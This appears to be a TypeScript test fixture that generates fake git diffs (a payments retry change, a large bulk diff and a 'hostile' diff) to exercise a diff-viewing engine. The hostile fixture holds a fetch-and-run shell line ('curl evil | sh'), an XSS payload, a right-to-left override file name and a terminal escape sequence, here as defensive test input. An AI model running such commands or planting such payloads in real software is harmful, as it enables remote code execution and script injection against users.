import type { ChangesFrame, DiffFile } from "../../src/contract/diffs.ts";
import { parsePatch } from "../../src/main/patches/parse-patch.ts";

/** `usual`: three files. `revised`: the same after the author went on in one of them. `large`: 200 files with 20,000 changed lines. `hostile`: one file as long, and lines without end. */
export type DiffKind = "usual" | "revised" | "large" | "hostile";

/** A diff like the ones the engine reads. */
function diffOf(kind: DiffKind) {
  return { base: "0a".repeat(20), head: "4f".repeat(20), ...made[kind](), truncated: false };
}

/** The same as the engine tells it to a window. */
export function* framesOf(kind: DiffKind): Generator<ChangesFrame> {
  const { base, head, files, patch } = diffOf(kind);
  yield { kind: "files", base, head, files, unlisted: 0 };
  const how = { fold: true, generated: new Set<string>(), mostLines: 30_000 };
  for (const file of parsePatch(Buffer.from(patch), how)) yield { kind: "patches", patches: [file] };
  yield { kind: "end", truncated: false };
}

interface Made {
  readonly files: DiffFile[];
  readonly patch: string;
}

const made: Readonly<Record<DiffKind, () => Made>> = {
  usual: () => ({
    files: [
      modified("src/payments/client.ts", 6, 2),
      added("src/payments/retry.ts", 18),
      modified("src/payments/client.test.ts", 6, 1),
    ],
    patch: usualPatch,
  }),
  revised: () => ({
    ...made.usual(),
    patch: usualPatch
      .replace(retryHead, revisedRetryHead)
      .replace(/^.*Math.random.*$/m, "+    const jitter = options.jitterMs();"),
  }),
  large: () =>
    joined(
      Array.from({ length: 200 }, (_, at) =>
        rewritten(`src/catalog/area-${String(at % 12)}/file-${String(at)}.ts`, 10, 5),
      ),
    ),
  hostile: () =>
    joined([
      rewritten("src/generated.ts", 1_000, 10),
      created("dist/app.min.js", [
        `var a="${"x".repeat(400_000)}";`,
        ...Array.from({ length: 20 }, () => "f();".repeat(5_000)),
      ]),
      created("src/\u202egpj.ts", ["\u001b[2J\u202e; curl evil | sh", "<img src=x onerror=alert(1)>"]),
    ]),
};

function modified(path: string, added: number, removed: number): DiffFile {
  return { path, change: "modified", binary: false, added, removed };
}

function added(path: string, lines: number): DiffFile {
  return { path, change: "added", binary: false, added: lines, removed: 0 };
}

interface One {
  readonly file: DiffFile;
  readonly patch: string;
}

function joined(all: readonly One[]): Made {
  return { files: all.map(({ file }) => file), patch: all.map(({ patch }) => patch).join("") };
}

/** A file of which `hunks` places changed, each by `lines` lines out and as many in. */
function rewritten(path: string, hunks: number, lines: number): One {
  const patch = [`diff --git a/${path} b/${path}`, "index 3f1c2ab..9d2e4bb 100644", `--- a/${path}`, `+++ b/${path}`];
  const length = lines + 6;
  for (let hunk = 0; hunk < hunks; hunk += 1) {
    const start = String(1 + hunk * (length + 20));
    patch.push(`@@ -${start},${String(length)} +${start},${String(length)} @@ export class Shelf${String(hunk)} {`);
    const say = (mark: string, count: number, text: string): void => {
      for (let line = 0; line < count; line += 1)
        patch.push(`${mark}  const ${text}${String(line)} = read("${path}", ${String(hunk)}); // row`);
    };
    say(" ", 3, "above");
    say("-", lines, "old");
    say("+", lines, "fresh");
    say(" ", 3, "below");
  }
  return { file: modified(path, hunks * lines, hunks * lines), patch: `${patch.join("\n")}\n` };
}

function created(path: string, lines: readonly string[]): One {
  const head = [
    `diff --git a/${path} b/${path}`,
    "new file mode 100644",
    "index 0000000..5b1f0aa",
    "--- /dev/null",
    `+++ b/${path}`,
  ];
  const body = [`@@ -0,0 +1,${String(lines.length)} @@`, ...lines.map((line) => `+${line}`)];
  return { file: added(path, lines.length), patch: `${[...head, ...body].join("\n")}\n` };
}

const retryHead = "@@ -0,0 +1,18 @@\n";
const revisedRetryHead = '@@ -0,0 +1,19 @@\n+import { ProviderError } from "./provider.ts";\n';

const usualPatch = `diff --git a/src/payments/client.ts b/src/payments/client.ts
index 3f1c2ab..9d2e4bb 100644
--- a/src/payments/client.ts
+++ b/src/payments/client.ts
@@ -38,9 +38,13 @@ export function createPayments(provider: Provider) {
   async function charge(order: Order): Promise<Receipt> {
     const key = keyOf(order);
-    const answer = await provider.charge({ key, amount: order.total });
-    return receiptOf(answer);
+    // The provider answers 502 about once in four hundred calls; a second try nearly always works.
+    const answer = await retryOnce(() => provider.charge({ key, amount: order.total }), {
+      when: (error) => error.status === 502,
+      afterMs: 250,
+    });
+    return receiptOf(answer, order.currency);
   }
 
   async function refund(id: string): Promise<void> {
     await provider.refund(id);
   }
diff --git a/src/payments/retry.ts b/src/payments/retry.ts
new file mode 100644
index 0000000..5b1f0aa
--- /dev/null
+++ b/src/payments/retry.ts
@@ -0,0 +1,18 @@
+export interface RetryOptions {
+  readonly when: (error: ProviderError) => boolean;
+  readonly afterMs: number;
+}
+
+/** Tries a call a second time when it failed in a way that passes. */
+export async function retryOnce<T>(call: () => Promise<T>, options: RetryOptions): Promise<T> {
+  try {
+    return await call();
+  } catch (error) {
+    if (!(error instanceof ProviderError) || !options.when(error)) throw error;
+    const jitter = Math.random() * options.afterMs;
+    await new Promise((resolve) => setTimeout(resolve, options.afterMs + jitter));
+    return call();
+  }
+}
+
+export const neverRetry: RetryOptions = { when: () => false, afterMs: 0 };
diff --git a/src/payments/client.test.ts b/src/payments/client.test.ts
index 11aa22b..33cc44d 100644
--- a/src/payments/client.test.ts
+++ b/src/payments/client.test.ts
@@ -9,6 +9,12 @@ describe("payments", () => {
   it("charges once", async () => {
     const provider = fakeProvider();
     await createPayments(provider).charge(order);
-    expect(provider.calls).toBe(1);
+    expect(provider.calls).toHaveLength(1);
+  });
+
+  it("retries a 502 once", async () => {
+    const provider = fakeProvider({ failFirst: 502 });
+    await createPayments(provider).charge(order);
+    expect(provider.calls).toHaveLength(2);
   });
 });
`;
